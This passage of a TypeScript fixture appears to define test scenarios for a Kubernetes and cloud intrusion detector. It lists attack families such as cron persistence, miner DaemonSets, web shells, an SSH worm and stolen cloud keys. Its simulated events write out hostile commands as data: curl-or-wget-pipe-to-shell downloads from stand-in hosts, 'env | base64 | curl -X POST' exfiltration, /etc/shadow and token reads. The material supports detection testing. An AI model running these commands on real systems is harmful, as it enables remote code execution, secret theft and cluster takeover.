      { in: web, write: '/tmp/.pl', by: '/bin/sh -c "echo |/var/lib/containerd/x > /proc/sys/kernel/core_pattern"' },
      { exec: '/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/41/fs/tmp/.pl', after: 30 },
    ]),
  },
  {
    family: 'cron job planted in a container and run',
    title: ['cron'],
    severity: 'high',
    workload: web,
    techniques: ['T1053.003'],
    deeds: around([
      {
        in: web,
        exec: '/bin/sh -c "(crontab -l; echo \'* * * * * curl http://203.0.113.77/c|sh\') | crontab -"',
        by: server,
      },
      { in: web, write: '/var/spool/cron/crontabs/root', by: '/usr/bin/crontab -' },
      { in: web, exec: '/bin/sh -c "curl http://203.0.113.77/c|sh"', by: '/usr/sbin/crond -f', after: 60 },
    ]),
  },
  {
    family: 'admission webhook that injects a container',
    title: ['webhook', 'token'],
    severity: 'high',
    workload: null,
    deeds: around([
      {
        audit: {
          user: 'system:serviceaccount:tools:helper',
          verb: 'create',
          what: '/mutatingwebhookconfigurations/image-policy',
          from: '198.51.100.44',
          agent: 'curl/8.5',
          object: { webhooks: [{ name: 'p.example.net', clientConfig: { url: 'https://p.example.net/m' } }] },
        },
        isDecisive: true,
      },
    ]),
  },
  {
    family: 'rights escalated by an application identity',
    title: ['administrator', 'role', 'permission'],
    severity: 'high',
    workload: null,
    findings: ['privilege-grant'],
    techniques: ['T1098.006'],
    deeds: around([
      {
        audit: {
          user: 'system:serviceaccount:shop:web-sa',
          verb: 'create',
          what: '/clusterroles/helper',
          agent: 'curl/8.5',
          from: '10.42.0.17',
          object: { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] },
        },
      },
      {
        audit: {
          user: 'system:serviceaccount:shop:web-sa',
          verb: 'create',
          what: '/clusterrolebindings/helper',
          agent: 'curl/8.5',
          from: '10.42.0.17',
          object: {
            roleRef: { kind: 'ClusterRole', name: 'cluster-admin' },
            subjects: [{ kind: 'ServiceAccount', name: 'web-sa', namespace: 'shop' }],
          },
        },
        isDecisive: true,
      },
    ]),
  },
  {
    family: 'anonymous access creates a daemon set that mines',
    title: ['miner'],
    severity: 'critical',
    workload: 'kube-system/DaemonSet/kube-monitor',
    deeds: around([
      {
        audit: {
          user: 'system:anonymous',
          verb: 'list',
          what: '/secrets',
          from: '198.51.100.9',
          agent: 'Go-http-client/1.1',
        },
      },
      {
        audit: {
          user: 'system:anonymous',
          verb: 'create',
          what: 'kube-system/daemonsets/kube-monitor',
          from: '198.51.100.9',
          agent: 'Go-http-client/1.1',
          object: { spec: { template: { spec: { containers: [{ name: 'k', image: 'docker.io/x/k:1' }] } } } },
        },
      },
      {
        in: 'kube-system/DaemonSet/kube-monitor',
        exec: '/k8s/mon -o pool.example.net:443 -u w --tls',
        after: 40,
      },
      {
        in: 'kube-system/DaemonSet/kube-monitor',
        connect: `${c2}:443`,
        by: '/k8s/mon -o pool.example.net:443 -u w --tls',
      },
    ]),
  },
  {
    family: 'secrets of a namespace listed, another account acts from outside',
    title: ['token', 'secret'],
    severity: 'critical',
    workload: web,
    findings: ['lateral-movement'],
    policy: {
      sa_usual_sources: { 'shop:deployer': ['10.42.0.0/16'] },
      sa_usual_user_agents: { 'shop:deployer': ['argocd'] },
    },
    deeds: around([
      { in: web, exec: '/bin/sh -c "cat /var/run/secrets/kubernetes.io/serviceaccount/token"', by: server },
      {
        audit: {
          user: 'system:serviceaccount:shop:web-sa',
          verb: 'list',
          what: 'shop/secrets',
          from: '10.42.0.17',
          agent: 'curl/8.5',
        },
      },
      {
        audit: {
          user: 'system:serviceaccount:shop:deployer',
          verb: 'create',
          what: 'kube-system/pods/x',
          from: '198.51.100.44',
          agent: 'curl/8.5',
          object: hostPath('/'),
        },
        after: 3600,
      },
    ]),
  },
  {
    family: 'cloud key of an image used from outside',
    title: ['key'],
    severity: 'high',
    workload: 'batch/CronJob/report',
    images: {
      'batch/CronJob/report': {
        secrets: [
          { type: 'aws-access-key', path: '/app/.env', fingerprint: 'f1', access_key_id: 'AKIAEXAMPLEEXAMPLE12' },
        ],
      },
    },
    workloads: { 'batch/CronJob/report': {} },
    policy: { key_usual_source: { AKIAEXAMPLEEXAMPLE12: ['203.0.113.10/32'] } },
    deeds: around([
      {
        cloud: {
          eventSource: 'sts.amazonaws.com',
          eventName: 'GetCallerIdentity',
          sourceIPAddress: '198.51.100.44',
          userIdentity: {
            type: 'IAMUser',
            arn: 'arn:aws:iam::1:user/report',
            userName: 'report',
            accessKeyId: 'AKIAEXAMPLEEXAMPLE12',
          },
        },
        isDecisive: true,
      },
      {
        cloud: {
          eventSource: 'iam.amazonaws.com',
          eventName: 'CreateAccessKey',
          sourceIPAddress: '198.51.100.44',
          userIdentity: {
            type: 'IAMUser',
            arn: 'arn:aws:iam::1:user/report',
            userName: 'report',
            accessKeyId: 'AKIAEXAMPLEEXAMPLE12',
          },
        },
      },
    ]),
  },
  {
    family: 'tag hijacked, helper calls home',
    title: ['tag', 'hijack', 'release'],
    severity: 'critical',
    workload: 'pay/Deployment/api',
    techniques: ['T1525'],
    policy: { egress_seen_with_previous_digest: { 'pay/api': ['10.42.1.20'] } },
    images: {
      'pay/Deployment/api': {
        pushed: { at: '2026-05-03T22:00:00Z', by: 'guest7' },
        signature: { signed: false, verified: false },
        files: { '/app/.helper': { package: null } },
        previous_digests: [
          {
            digest: `sha256:${'b'.repeat(64)}`,
            pushed_by: 'ci-bot',
            signed: true,
            diff: { added_files: ['/app/.helper'] },
          },
        ],
      },
    },
    deeds: around([
      { in: 'pay/Deployment/api', exec: '/app/api' },
      { in: 'pay/Deployment/api', exec: '/app/.helper', by: '/app/api' },
      { in: 'pay/Deployment/api', connect: `${c2}:8443`, by: '/app/.helper' },
    ]),
  },
  {
    family: 'new version of a dependency calls home',
    title: ['depend', 'package'],
    severity: 'high',
    workload: 'pay/Deployment/api',
    policy: { egress_seen_with_previous_digest: { 'pay/api': ['10.42.1.20'] } },
    images: {
      'pay/Deployment/api': {
        pushed: { at: '2026-05-03T22:00:00Z', by: 'ci-bot' },
        files: { '/app/node_modules/event-flow/index.js': { package: 'event-flow' } },
        previous_digests: [
          {
            digest: `sha256:${'b'.repeat(64)}`,
            pushed_by: 'ci-bot',
            signed: true,
            diff: { added_files: ['/app/node_modules/event-flow/index.js'] },
          },
        ],
      },
    },
    deeds: around([
      { in: 'pay/Deployment/api', exec: '/usr/bin/node /app/index.js', isUsual: true },
      { in: 'pay/Deployment/api', read: '/app/node_modules/event-flow/index.js', by: '/usr/bin/node /app/index.js' },
      { in: 'pay/Deployment/api', connect: `${c2}:443`, by: '/usr/bin/node /app/index.js', isDecisive: true },
    ]),
  },
  {
    family: 'backdoored file of a package in a base image',
    title: ['backdoor', 'package'],
    severity: 'critical',
    workload: 'access/Deployment/bastion',
    images: {
      'access/Deployment/bastion': {
        files: { '/usr/lib/x86_64-linux-gnu/liblzma.so.5': { package: 'liblzma5', matches_package_metadata: false } },
      },
    },
    deeds: around([
      { in: 'access/Deployment/bastion', load: '/usr/lib/x86_64-linux-gnu/liblzma.so.5', by: '/usr/sbin/sshd -D' },
      {
        in: 'access/Deployment/bastion',
        exec: '/bin/sh -c "id"',
        by: '/usr/sbin/sshd -D',
        isDecisive: true,
        after: 600,
      },
      { in: 'access/Deployment/bastion', read: '/etc/shadow', by: '/bin/cat /etc/shadow' },
    ]),
  },
  {
    family: 'eBPF rootkit loaded from a container',
    title: ['ebpf', 'rootkit', 'dropped', 'exploit'],
    severity: 'high',
    workload: web,
    techniques: ['T1014'],
    deeds: around([
      { in: web, exec: '/bin/sh -c "wget http://203.0.113.77/b -O /tmp/.b; /tmp/.b"', by: server },
      { in: web, exec: '/tmp/.b', by: '/bin/sh -c "wget http://203.0.113.77/b -O /tmp/.b; /tmp/.b"' },
      { in: web, hook: ['__x64_sys_bpf'], by: '/tmp/.b' },
      { in: web, hook: ['security_bpf_prog_load'], by: '/tmp/.b' },
    ]),
  },
  {
    family: 'web shell in JSP',
    title: ['web shell', 'webshell'],
    severity: 'high',
    workload: 'shop/Deployment/tomcat',
    deeds: around([
      {
        in: 'shop/Deployment/tomcat',
        write: '/usr/local/tomcat/webapps/ROOT/up/x.jsp',
        by: '/usr/bin/java -cp bootstrap.jar org.apache.catalina.startup.Bootstrap start',
        isDecisive: true,
      },
      {
        in: 'shop/Deployment/tomcat',
        exec: '/bin/sh -c "whoami; cat /etc/passwd"',
        by: '/usr/bin/java -cp bootstrap.jar org.apache.catalina.startup.Bootstrap start',
        after: 20,
      },
    ]),
  },
  {
    family: 'redis writes a schedule by its module',
    title: ['cron', 'database', 'persistence', 'dropped'],
    severity: 'high',
    workload: 'cache/StatefulSet/redis',
    deeds: around([
      {
        in: 'cache/StatefulSet/redis',
        write: '/var/spool/cron/root',
        by: '/usr/local/bin/redis-server *:6379',
        isDecisive: true,
      },
      {
        in: 'cache/StatefulSet/redis',
        exec: '/bin/sh -c "curl -fsSL http://203.0.113.77/r.sh | sh"',
        by: '/usr/local/bin/redis-server *:6379',
        after: 60,
      },
    ]),
  },
  {
    family: 'denial of service bot',
    title: ['flood', 'denial', 'dropped', 'command and control', 'exploit'],
    severity: 'critical',
    workload: web,
    deeds: around([
      { in: web, exec: '/bin/sh -c "curl http://203.0.113.77/bot -o /tmp/bot; /tmp/bot"', by: server },
      {
        in: web,
        exec: '/tmp/bot',
        by: '/bin/sh -c "curl http://203.0.113.77/bot -o /tmp/bot; /tmp/bot"',
      },
      ...Array.from({ length: 250 }, (_, n): Deed => ({
        in: web,
        connect: `198.51.100.${n % 250}:80`,
        by: '/tmp/bot',
        after: 0.01,
        isUsual: true,
      })),
    ]),
  },
  {
    family: 'cache of a pipeline poisoned',
    title: ['build', 'cache'],
    severity: 'critical',
    workload: 'ci/Job/web',
    policy: { builder_namespaces: ['ci'] },
    deeds: around([
      {
        in: 'ci/Job/web',
        exec: '/usr/bin/node /src/node_modules/.bin/postinstall.js',
        by: '/usr/bin/npm ci',
        isUsual: true,
      },
      { in: 'ci/Job/web', exec: '/tmp/.c/agent', by: '/usr/bin/node /src/node_modules/.bin/postinstall.js' },
      {
        in: 'ci/Job/web',
        write: '/cache/other-project/node_modules/left/index.js',
        by: '/tmp/.c/agent',
        isDecisive: true,
      },
    ]),
  },
  {
    family: 'environment of a pipeline posted outside',
    title: ['exfil', 'secret', 'environment', 'install'],
    severity: 'high',
    workload: 'ci/Job/web',
    policy: { builder_namespaces: ['ci'] },
    deeds: around([
      {
        in: 'ci/Job/web',
        exec: '/bin/bash -c "env | base64 -w0 | curl -s -X POST -d @- https://hook.example.net/x"',
        by: '/usr/bin/node install.js',
        isDecisive: true,
      },
      {
        in: 'ci/Job/web',
        exec: '/usr/bin/curl -s -X POST -d @- https://hook.example.net/x',
        by: '/bin/bash -c "env | base64 -w0 | curl -s -X POST -d @- https://hook.example.net/x"',
      },
      { in: 'ci/Job/web', connect: `${c2}:443`, by: '/usr/bin/curl -s -X POST -d @- https://hook.example.net/x' },
    ]),
  },
  {
    family: 'credentials for pulling images stolen on the node',
    title: ['credential', 'escape', 'key', 'token'],
    severity: 'high',
    workload: 'ops/Pod/dbg',
    deeds: around([
      {
        audit: {
          user: 'dev@example.com',
          verb: 'create',
          what: 'ops/pods/dbg',
          from: '198.51.100.9',
          object: hostPath('/var/lib/kubelet'),
        },
      },
      { in: 'ops/Pod/dbg', exec: '/bin/cat /host/config.json', isSession: true, isUsual: true },
      { in: 'ops/Pod/dbg', read: '/host/config.json', by: '/bin/cat /host/config.json', isUsual: true },
      {
        in: 'ops/Pod/dbg',
        read: '/host/pods/8f1/volumes/kubernetes.io~projected/kube-api-access-x/token',
        by: '/bin/cat /host/pods/8f1/volumes/kubernetes.io~projected/kube-api-access-x/token',
        isDecisive: true,
      },
    ]),
  },
  {
    family: 'worm that spreads by SSH keys',
    title: ['worm', 'ssh', 'dropped', 'command and control'],
    severity: 'critical',
    workload: 'a/Deployment/one',
    deeds: around(
      ['a/Deployment/one', 'b/Deployment/two', 'c/Deployment/three'].flatMap((each): Deed[] => [
        {
          in: each,
          exec: '/bin/sh -c "scp -o StrictHostKeyChecking=no /tmp/.sw root@10.42.9.9:/tmp/.sw"',
          by: '/usr/sbin/sshd -D',
          after: 90,
        },
        {
          in: each,
          exec: '/tmp/.sw spread',
          by: '/bin/sh -c "scp -o StrictHostKeyChecking=no /tmp/.sw root@10.42.9.9:/tmp/.sw"',
          isDecisive: true,
        },
        { in: each, read: '/root/.ssh/id_rsa', by: '/tmp/.sw spread' },
        { in: each, connect: '10.42.9.9:22', by: '/tmp/.sw spread' },
      ]),
    ),
  },
  {
    family: 'Falco alone reports an escape and its payload on the node',
    title: ['escape'],
    severity: 'critical',
    workload: 'ops/Pod/x',
    deeds: around([
      { in: 'ops/Pod/x', falco: ['Launch Privileged Container', 'Informational'], exec: '/bin/sh' },
      {
        in: 'ops/Pod/x',
        falco: ['Mount Launched in Privileged Container', 'Warning'],
        exec: '/bin/mount /dev/sda1 /mnt',
        by: '/bin/sh',
        isDecisive: true,
      },
      { in: 'ops/Pod/x', falco: ['Schedule Cron Jobs', 'Notice'], write: '/mnt/etc/cron.d/x', by: '/bin/sh' },
      {
        falco: ['Read sensitive file untrusted', 'Warning'],
        read: '/etc/shadow',
        by: '/bin/sh -c cat /etc/shadow',
        after: 60,
      },
    ]),
  },
  {
    family: 'secrets listed and read with the credentials of an instance',
    title: ['stolen cloud credentials'],
    severity: 'high',
    workload: null,
    techniques: ['T1555.006'],
    deeds: around([
      asInstance('secretsmanager', 'ListSecrets'),
      asInstance('secretsmanager', 'GetSecretValue', { secretId: 'prod/db' }),
      asInstance('secretsmanager', 'GetSecretValue', { secretId: 'prod/smtp' }),
      { ...asInstance('secretsmanager', 'GetSecretValue', { secretId: 'prod/stripe' }), isDecisive: true },
    ]),
  },
  {
    family: 'image of a registry replaced with the credentials of an instance',
    title: ['stolen cloud credentials'],
    severity: 'high',
    workload: null,
    techniques: ['T1525'],
    deeds: around([
      asInstance('ecr', 'DescribeRepositories', {}),
      asInstance('ecr', 'BatchGetImage', { repositoryName: 'shop/web', imageIds: [{ imageTag: 'stable' }] }),
      { ...asInstance('ecr', 'PutImage', { repositoryName: 'shop/web', imageTag: 'stable' }), isDecisive: true },
    ]),
  },
];
